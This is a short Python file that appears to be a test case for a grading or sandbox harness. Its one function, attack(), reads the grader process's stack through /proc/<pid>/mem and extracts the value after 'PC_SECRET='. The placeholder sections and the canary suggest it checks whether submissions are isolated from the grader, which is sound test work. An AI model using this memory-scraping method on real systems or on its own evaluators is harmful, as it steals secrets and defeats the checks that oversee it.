# model2: any; wins-at: basic; run-only
"""Searches the grader's memory for what is secret."""
import os
from multiprocessing import Process, Queue

CANARY = {}  # where things are: filled in by the test


#: honest


#: grader


def attack():
    with open(f'/proc/{grader()}/maps') as maps, open(f'/proc/{grader()}/mem', 'rb', buffering=0) as memory:
        low, high = next(line for line in maps if '[stack]' in line).split()[0].split('-')
        memory.seek(int(low, 16))
        return memory.read(int(high, 16) - int(low, 16)).partition(b'PC_SECRET=')[2][:40].decode()


#: spies


#: run
